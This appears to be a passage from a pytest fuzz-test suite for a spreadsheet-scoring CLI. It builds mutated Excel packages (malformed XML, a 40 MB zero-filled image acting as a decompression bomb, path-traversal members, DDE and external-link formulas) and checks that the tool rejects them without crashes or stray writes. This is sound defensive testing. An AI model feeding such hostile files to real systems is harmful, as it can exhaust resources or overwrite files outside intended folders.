            pkg.set("xl/styles.xml", re.sub(rb'numFmtId="\d+"', b'numFmtId="9999"', styles,
                                                    count=3))
            steps.append("numFmtId 9999")
    return "style index out of range " + ", ".join(steps)


def m_malformed(pkg: Package, rng: random.Random, case: Case) -> str:
    name = rng.choice([n for n in pkg.names() if n.endswith((".xml", ".rels"))])
    data = pkg.get(name)
    how = rng.choice(["cut", "bad-utf8", "utf16-claim", "empty", "wrong-root"])
    if how == "cut":
        data = data[: len(data) // 2]
    elif how == "bad-utf8":
        data = data.replace(b"<", b"\xff\xfe<", 2)
    elif how == "utf16-claim":
        data = b'<?xml version="1.0" encoding="UTF-16"?>' + re.sub(rb"^<\?xml[^>]*\?>", b"", data)
    elif how == "empty":
        data = b""
    else:
        data = b'<html xmlns="http://www.w3.org/1999/xhtml"><body/></html>'
    pkg.set(name, data)
    return f"malformed {name} ({how})"


def m_bomb(pkg: Package, rng: random.Random, case: Case) -> str:
    """A member that inflates 40 MB from about 40 KB (zeros as a picture), or a sheet of one
    row repeated 4 MB long (XML as compressible as deflate allows; 40 MB of it is legal
    and takes about 16 s per command, too long for this run)."""
    if rng.random() < 0.5:
        pkg.set("xl/media/image1.png", bytes(40 * 1024 * 1024))
        return "40 MB of zeros as xl/media/image1.png"
    sheet, part = rng.choice(pkg.sheets())
    row = b'<row r="1"><c r="A1" t="inlineStr"><is><t>a</t></is></c></row>'
    body = row * (4 * 1024 * 1024 // len(row))
    pkg.set(part, b'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="' + NS.encode()
            + b'"><sheetData>' + body + b"</sheetData></worksheet>")
    return f"4 MB of repeated rows as {sheet!r}"


def m_compression(pkg: Package, rng: random.Random, case: Case) -> str:
    name = rng.choice(pkg.names())
    method = rng.choice([zipfile.ZIP_BZIP2, zipfile.ZIP_LZMA, zipfile.ZIP_STORED])
    pkg.compress[name] = method
    return f"{name} compressed with method {method}"


CELL_MUTATIONS = [m_cell, m_cell, m_cell, m_cells, m_cells, m_shared_string_index,
                  m_style_index, m_external_link, m_unit_name]
SHEET_MUTATIONS = [m_hide, m_rename, m_rename, m_delete_sheet, m_duplicate_sheet_name, m_merge,
                   m_styled_rows, m_defined_name, m_defined_name, m_duplicate_row,
                   m_clear_column]
PACKAGE_MUTATIONS = [m_truncate, m_duplicate_member, m_traversal, m_sheet_part_outside,
                     m_huge_size, m_dtd, m_content_types, m_missing_part, m_malformed,
                     m_compression, m_bomb]


def make_case(base: str, base_bytes: bytes, seed: int) -> Case:
    """One case: 1–3 mutations from the three levels, picked by ``seed``."""
    rng = random.Random(f"{base}:{seed}")
    case = Case(base, seed)
    pkg = Package(base_bytes)
    level = seed % 4  # 0/1 cell, 2 sheet, 3 package; later mutations mix levels
    pools = [CELL_MUTATIONS, CELL_MUTATIONS, SHEET_MUTATIONS, PACKAGE_MUTATIONS]
    plan = [rng.choice(pools[level])]
    for _ in range(rng.choice([0, 0, 1, 2])):
        plan.append(rng.choice(rng.choice([CELL_MUTATIONS, SHEET_MUTATIONS])))
    if level == 3:  # package damage last, so later steps can still parse the XML
        plan = plan[1:] + plan[:1]
    for mutate in plan:
        try:
            case.steps.append(mutate(pkg, rng, case))
        except (etree.XMLSyntaxError, TypeError, KeyError, ValueError, IndexError,
                AttributeError) as exc:  # an earlier step broke what this one needs
            case.steps.append(f"{mutate.__name__} skipped ({type(exc).__name__})")
    case.data = pkg.to_bytes()
    return case


# --------------------------------------------------------------------------- the bases

_BASES: dict[str, bytes] = {}


def base_bytes(base: str, tmp_root: Path) -> bytes:
    if base in _BASES:
        return _BASES[base]
    if base == "sample":
        data = SAMPLE.read_bytes()
    elif base == "xlsm":
        data = SAMPLE_XLSM.read_bytes()
    elif base.startswith("county"):
        import adopt_fixtures

        shape = base.partition(":")[2] or "basic"
        buf = io.BytesIO()
        getattr(adopt_fixtures, shape)().wb.save(buf)
        data = buf.getvalue()
    else:  # adopted[:shape]
        shape = base.partition(":")[2] or "basic"
        src = tmp_root / f"county_{shape}.xlsx"
        src.write_bytes(base_bytes(f"county:{shape}", tmp_root))
        out = tmp_root / f"adopted_{shape}.xlsx"
        rc, _, err, _ = _run(["adopt", str(src), "-o", str(out)])
        assert rc in (0, 1), err
        data = out.read_bytes()
    _BASES[base] = data
    return data


# County layouts of tests/adopt_fixtures (issue #9's header cases): each seed of the county
# and adopted bases starts from one of them in turn.
COUNTY_SHAPES = ["basic", "two_row_header", "reordered", "with_targets", "level_weights",
                 "coefficients", "three_row_header", "merged_pairs", "names_with_weights",
                 "no_standard", "merged_targets", "two_tables", "text_weights"]


def shaped(base: str, seed: int) -> str:
    """The base a case really starts from: county/adopted cases cycle through the shapes."""
    if base in ("county", "adopted"):
        return f"{base}:{COUNTY_SHAPES[seed % len(COUNTY_SHAPES)]}"
    return base


def build_case(base: str, seed: int, factory) -> Case:
    start = shaped(base, seed)
    case = make_case(base, base_bytes(start, factory.getbasetemp()), seed)
    if start != base:
        case.steps.insert(0, start)
    return case


def case_ids() -> list[tuple[str, int]]:
    out = []
    for base, n in DEFAULT_CASES.items():
        for i in range(CASES_PER_BASE or n):
            out.append((base, SEED0 + i))
    return out


# --------------------------------------------------------------------------- running


class _Hang(Exception):
    pass


def _alarm(signum, frame):
    raise _Hang()


def _run(argv: list[str]) -> tuple[int | None, str, str, list[str]]:
    """Run the CLI in-process: (exit code, stdout, stderr, warnings a user would see)."""
    from perfeval_xl.cli import main

    out, err = io.StringIO(), io.StringIO()
    shown: list[str] = []
    alarm = hasattr(signal, "SIGALRM")  # POSIX; elsewhere a hang just hangs the test
    if alarm:
        old = signal.signal(signal.SIGALRM, _alarm)
        signal.alarm(RUN_LIMIT_S)
    # An exception in a finalizer (a zip left open by a failed load) prints "Exception
    # ignored in … Traceback" when the object is collected, in a real run at exit.
    unraisable: list[str] = []
    old_hook = sys.unraisablehook
    sys.unraisablehook = lambda u: unraisable.append(f"{u.exc_type.__name__} in {u.object!r}")
    try:
        with warnings.catch_warnings(record=True) as caught, \
                contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
            warnings.simplefilter("default")
            try:
                rc = main(argv)
            except SystemExit as exc:
                rc = exc.code
            except _Hang:
                rc = None
                err.write(f"HANG: more than {RUN_LIMIT_S} s\n")
        # Python's default filters show these to a user; Deprecation/Import/Resource do not.
        hidden = (DeprecationWarning, PendingDeprecationWarning, ImportWarning, ResourceWarning)
        shown = [f"{w.category.__name__}: {w.message}" for w in caught
                 if not issubclass(w.category, hidden)]
        gc.collect()
        shown += [f"Exception ignored: {u}" for u in unraisable]
    finally:
        sys.unraisablehook = old_hook
        if alarm:
            signal.alarm(0)
            signal.signal(signal.SIGALRM, old)
    return rc, out.getvalue(), err.getvalue(), shown


def _snapshot(root: Path) -> dict[str, str]:
    snap = {}
    for p in sorted(root.rglob("*")):
        if p.is_file() and not p.is_symlink():
            snap[str(p.relative_to(root))] = hashlib.sha256(p.read_bytes()).hexdigest()
        elif p.is_dir():
            snap[str(p.relative_to(root)) + "/"] = "dir"
    return snap


# atomic_write's ".~perfeval-…", tempfile's default "tmpXXXXXXXX", Office's "~$…", any dot file.
TEMP_NAME = re.compile(r"^\.|^~\$|^tmp[a-z0-9_]{8}(\.\w+)?$|\.tmp$|\.part$", re.I)


def check_run(argv: list[str], root: Path, out_dir: Path, inputs: list[Path],
              case: Case, json_out: bool = False) -> list[str]:
    """Run one command and return the properties it broke (empty: all held)."""
    before = _snapshot(root)
    digests = {p: hashlib.sha256(p.read_bytes()).hexdigest() for p in inputs}
    rc, out, err, shown = _run(argv)
    TALLY[(argv[0], rc)] = TALLY.get((argv[0], rc), 0) + 1
    failures = []
    text = out + err
    if rc not in (0, 1, 2):
        failures.append(f"exit code {rc!r}")
    if "Traceback" in text or "内部错误" in text:
        failures.append("traceback/internal error: " + _last_lines(err))
    for line in err.splitlines():
        if line.strip() and not CJK.search(line):
            failures.append(f"non-Chinese line: {line[:200]!r}")
            break
    if json_out and rc in (0, 1):
        try:
            json.loads(out)
        except ValueError:
            failures.append("stdout is not JSON")
    elif out.strip() and (not json_out or rc == 2):
        failures.append(f"unexpected stdout: {out[:200]!r}")
    if shown:
        failures.append(f"warnings shown: {shown[:3]}")
    for p, digest in digests.items():
        if hashlib.sha256(p.read_bytes()).hexdigest() != digest:
            failures.append(f"input changed: {p.name}")
    after = _snapshot(root)
    rel_out = str(out_dir.relative_to(root))
    changed = {k for k in set(before) | set(after) if before.get(k) != after.get(k)}
    # jinja2's per-user bytecode cache of the built-in report template is the one thing
    # allowed in the system temp folder (FileSystemBytecodeCache, a 0700 folder).
    outside = sorted(k for k in changed if not (k == rel_out + "/" or k.startswith(rel_out + "/"))
                     and "/systmp/_jinja2-cache-" not in "/" + k)
    if outside:
        failures.append(f"written outside the output folder: {outside[:5]}")
    produced = [p for p in out_dir.rglob("*") if p.is_file()] if out_dir.exists() else []
    temps = [p.name for p in produced if TEMP_NAME.search(p.name)]
    if temps:
        failures.append(f"temp files left: {temps}")
    if rc == 2 and produced and argv[0] != "batch":
        failures.append(f"exit 2 but outputs exist: {[p.name for p in produced]}")
    if rc == 2 and argv[0] == "batch" and (out_dir / "汇总表.xlsx").exists():
        failures.append("batch exit 2 but 汇总表.xlsx exists")
    target = Path(argv[argv.index("-o") + 1]) if "-o" in argv and argv[0] != "batch" else None
    if target is not None and rc in (0, 1):
        failures += _valid_package(target)
    for p in case.evil_paths:
        hits = [h for h in p.parent.glob(p.name + "*")] if p.parent.is_dir() else []
        if hits:
            failures.append(f"traversal target written: {hits[:3]}")
            for h in hits:  # so one hit does not fail every later case
                h.unlink()
    return [f"{argv[0]} → {f}" for f in failures]


def _valid_package(path: Path) -> list[str]:
    """An output we reported as written must be a whole, readable package."""
    if not path.is_file():
        return [f"output {path.name} missing after success"]
    try:
        with zipfile.ZipFile(path) as z:
            bad = z.testzip()
            names = set(z.namelist())
    except (zipfile.BadZipFile, OSError) as exc:
        return [f"output {path.name} is not a zip: {exc}"]
    if bad is not None or "[Content_Types].xml" not in names:
        return [f"output {path.name} is damaged ({bad or 'no [Content_Types].xml'})"]
    return []


def _last_lines(err: str, n: int = 3) -> str:
    return " | ".join(err.strip().splitlines()[-n:])[:400]


def _commands(case: Case, wb: Path, root: Path) -> list[tuple[list[str], Path, bool]]:
    """(argv, output folder, JSON on stdout) for the commands a user would run."""
    suffix = wb.suffix
    outs = {k: root / f"out_{k}" for k in ("check", "score", "report", "adopt")}
    for d in outs.values():
        d.mkdir()
    json_out = case.seed % 3 == 0
    check = (["check", str(wb)] + (["--json"] if json_out else []), outs["check"], json_out)
    score = (["score", str(wb), "-o", str(outs["score"] / f"scored{suffix}")], outs["score"],
             False)
    report = (["report", str(wb), "-o", str(outs["report"] / "report.docx")], outs["report"],
              False)
    adopt = (["adopt", str(wb), "-o", str(outs["adopt"] / f"adopted{suffix}")], outs["adopt"],
             False)
    if case.base == "county":
        return [adopt, check] + ([score] if case.seed % 2 else [])
    return [check, score, report if case.seed % 2 == 0 else adopt]


_RESULTS: dict[str, list[str]] = {}
TALLY: dict[tuple[str, int | None], int] = {}


@pytest.fixture(scope="module", autouse=True)
def _summary(request):
    """After the module: how many cases and command runs, by exit code, and what failed."""
    yield
    reporter = request.config.pluginmanager.get_plugin("terminalreporter")
    if reporter is None or not TALLY:
        return
    runs = ", ".join(f"{cmd} exit {rc}: {n}" for (cmd, rc), n in sorted(
        TALLY.items(), key=lambda kv: (kv[0][0], str(kv[0][1]))))
    failed = [k for k, v in _RESULTS.items() if v]
    capture = request.config.pluginmanager.get_plugin("capturemanager")
    with capture.global_and_fixture_disabled() if capture else contextlib.nullcontext():
        reporter.write_line(f"\nfuzz: {len(_RESULTS)} cases, {sum(TALLY.values())} command runs "
                            f"({runs}); {len(failed)} cases failed {failed[:10]}")


@pytest.mark.parametrize(("base", "seed"), case_ids(),
                         ids=[f"{b}-{s}" for b, s in case_ids()])
def test_fuzz_case(base, seed, tmp_path, tmp_path_factory, monkeypatch):
    case = build_case(base, seed, tmp_path_factory)
    root = tmp_path / "d1" / "d2" / "case"  # "../../x" from the outputs stays in tmp_path
    (root / "in").mkdir(parents=True)
    (root / "cwd").mkdir()
    monkeypatch.chdir(root / "cwd")
    # The system temp folder inside the snapshot: a temp file left behind is a write outside.
    (root / "systmp").mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(root / "systmp"))
    wb = root / "in" / ("县表.xlsm" if base == "xlsm" else "县表.xlsx")
    wb.write_bytes(case.data)
    failures = []
    for argv, out_dir, json_out in _commands(case, wb, root):
        failures += check_run(argv, tmp_path, out_dir, [wb], case, json_out)
    _RESULTS[f"{base}-{seed}"] = failures
    assert not failures, "; ".join(failures) + f" ← {base}-{seed}: {' / '.join(case.steps)}"


def batch_groups() -> list[int]:
    n = len(case_ids())
    return list(range((n + BATCH_GROUP - 1) // BATCH_GROUP))


@pytest.mark.parametrize("group", batch_groups())
def test_fuzz_batch(group, tmp_path, tmp_path_factory, monkeypatch):
    """``batch`` over a folder of mutated workbooks: one bad file never sinks the run."""
    ids = case_ids()[group * BATCH_GROUP:(group + 1) * BATCH_GROUP]
    root = tmp_path / "d1" / "d2" / "case"  # "../../x" from the outputs stays in tmp_path
    in_dir = root / "in"
    in_dir.mkdir(parents=True)
    (root / "cwd").mkdir()
    monkeypatch.chdir(root / "cwd")
    # The system temp folder inside the snapshot: a temp file left behind is a write outside.
    (root / "systmp").mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(root / "systmp"))
    cases, inputs = [], []
    for base, seed in ids:
        case = build_case(base, seed, tmp_path_factory)
        cases.append(case)
        p = in_dir / f"{base}_{seed}{'.xlsm' if base == 'xlsm' else '.xlsx'}"
        p.write_bytes(case.data)
        inputs.append(p)
    out_dir = root / "out"
    argv = ["batch", str(in_dir), "-o", str(out_dir), "--jobs", "1"]
    if group % 2:
        argv.append("--no-report")
    merged = Case("batch", group, evil_paths=[p for c in cases for p in c.evil_paths])
    failures = check_run(argv, tmp_path, out_dir, inputs, merged)
    _RESULTS[f"batch-{group}"] = failures
    steps = "; ".join(f"{c.base}-{c.seed}: {' / '.join(c.steps)}" for c in cases)
    assert not failures, "; ".join(failures) + f" ← batch group {group}: {steps}"


def test_fuzz_batch_in_worker_processes(tmp_path, tmp_path_factory, capfd):
    """The same hostile files through spawned workers (--jobs 2): a worker's own stderr (fd 2,
    where library warnings and crashes of a child land) stays Chinese and traceback-free."""
    root = tmp_path / "case"
    in_dir = root / "in"
    in_dir.mkdir(parents=True)
    cases = []
    for base, seed in case_ids()[::max(1, len(case_ids()) // 12)][:12]:
        case = build_case(base, seed, tmp_path_factory)
        cases.append(case)
        (in_dir / f"{base}_{seed}{'.xlsm' if base == 'xlsm' else '.xlsx'}").write_bytes(case.data)
    # One file that makes a worker load openpyxl (a 校验结果 row without its number forces
    # the whole-workbook writer), which then warns about a name local to a missing sheet.
    pkg = Package(SAMPLE.read_bytes())
    part = dict(pkg.sheets())["校验结果"]
    pkg.set(part, re.sub(rb'<row r="\d+"', b"<row", pkg.get(part), count=1))
    wb = pkg.xml("xl/workbook.xml")
    local = etree.SubElement(wb.find(f"{{{NS}}}definedNames"), f"{{{NS}}}definedName",
                             name="_xlnm.Print_Area", localSheetId="40")
    local.text = "'校验结果'!$A$1:$D$9"
    pkg.put_xml("xl/workbook.xml", wb)
    (in_dir / "warns.xlsx").write_bytes(pkg.to_bytes())
    out_dir = root / "out"
    capfd.readouterr()
    failures = check_run(["batch", str(in_dir), "-o", str(out_dir), "--jobs", "2",
                          "--no-report"], tmp_path, out_dir, sorted(in_dir.iterdir()),
                         Case("batch-jobs", 0))
    fd_out, fd_err = capfd.readouterr()
    for line in (fd_out + fd_err).splitlines():
        if "Traceback" in line or "Warning" in line or (line.strip() and not CJK.search(line)):
            failures.append(f"worker output: {line[:200]!r}")
    _RESULTS["batch-jobs"] = failures
    steps = "; ".join(f"{c.base}-{c.seed}: {' / '.join(c.steps)}" for c in cases)
    assert not failures, "; ".join(failures) + f" ← {steps}"


# Values that can never be a figure: each must be reported at its own cell.
NOT_A_FIGURE = [v for v in CELL_VALUES if v[0] in {
    "text in a number cell", "huge string", "huge number text", "1e308", "-1e308",
    "max float", "NaN text", "Infinity text", "date cell", "bad date cell", "boolean true",
    "boolean garbage", "#N/A", "#REF!", "#DIV/0!", "#VALUE!", "#NAME?", "unknown error",
    "emoji", "HYPERLINK formula, no cache", "DDE formula, no cache", "external link, no cache",
    "external path link", "broken formula", "formula with string cache",
    "formula with error cache", "garbage in a number cell", "RTL override"}]


@pytest.mark.parametrize("name", ["budget_initial"] + (
    ["payment_progress_actual", "staff_actual"] if CASES_PER_BASE else []))
def test_a_bad_value_in_an_input_cell_is_named_at_that_cell(name, tmp_path):
    """The message names the sheet and cell at fault: for every value that cannot be a
    figure, ``check --json`` lists a problem located exactly at the input's cell."""
    assert len(NOT_A_FIGURE) >= 25
    pkg0 = Package(SAMPLE.read_bytes())
    m = re.fullmatch(r"'?(.+?)'?!\$?([A-Z]+)\$?(\d+)", pkg0.defined_names()[name])
    sheet, ref = m.group(1), f"{m.group(2)}{m.group(3)}"
    part = dict(pkg0.sheets())[sheet]
    missed = []
    for label, kind, text, formula, fattrs in NOT_A_FIGURE:
        pkg = Package(SAMPLE.read_bytes())
        root = pkg.xml(part)
        _set_cell(root, ref, kind, text, formula, fattrs)
        pkg.put_xml(part, root)
        wb = tmp_path / "wb.xlsx"
        wb.write_bytes(pkg.to_bytes())
        rc, out, err, _ = _run(["check", str(wb), "--json"])
        located = {p["location"] for p in json.loads(out)["problems"]} if rc in (0, 1) else set()
        if rc != 1 or f"'{sheet}'!{ref}" not in located:
            missed.append((label, rc, err.splitlines()[:2]))
    assert not missed, missed


def test_a_bad_county_weight_is_named_at_its_cell(tmp_path, tmp_path_factory):
    """The same for a county's own table after adopt: a 分值 edited to a value that cannot be
    a figure is reported at that 分值 cell of the county sheet."""
    import adopt_fixtures as af

    data = base_bytes("adopted:basic", tmp_path_factory.getbasetemp())
    county = af.basic()
    ref = county.cell(af.COMPLETION, "weight")
    missed = []
    for label, kind, text, formula, fattrs in NOT_A_FIGURE:
        pkg = Package(data)
        part = dict(pkg.sheets())[county.sheet]
        root = pkg.xml(part)
        _set_cell(root, ref, kind, text, formula, fattrs)
        pkg.put_xml(part, root)
        wb = tmp_path / "wb.xlsx"
        wb.write_bytes(pkg.to_bytes())
        rc, out, err, _ = _run(["check", str(wb), "--json"])
        located = {p["location"] for p in json.loads(out)["problems"]} if rc in (0, 1) else set()
        if rc != 1 or f"'{county.sheet}'!{ref}" not in located:
            missed.append((label, rc, err.splitlines()[:2]))
    assert not missed, missed
